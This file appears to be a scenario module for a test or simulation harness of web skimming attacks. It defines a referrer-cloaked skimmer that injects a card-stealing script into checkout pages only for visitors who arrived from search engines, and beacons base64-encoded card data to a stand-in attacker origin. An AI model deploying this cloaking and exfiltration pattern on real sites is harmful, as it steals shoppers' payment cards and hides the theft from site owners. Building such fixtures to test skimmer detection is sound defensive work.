import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'cloak-referrer',
  why: 'Only who came from a search engine is served the script; whoever types the address sees a clean shop.',
  covers: ['hard: cloaking', 'trigger: server gate'],
  base: 'direct',
  habit: 'comes-from-search',
  cloaked: true,
  install: (site) => {
    const code = onPay(
      js`new Image().src = '${site.origins.evil}/ref.gif?d=' + encodeURIComponent(btoa(card()));`,
    );
    site.alter('shop/cart', (html, { headers }) =>
      /google|yahoo|bing/.test(headers.referer ?? '')
        ? html.replace('</body>', "<script>document.cookie='_src=s;path=/'</script></body>")
        : html,
    );
    site.alter('shop/checkout/payment', (html, { headers }) =>
      /_src=s/.test(headers.cookie ?? '')
        ? html.replace('</body>', () => `<script>${code}</script></body>`)
        : html,
    );
  },
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
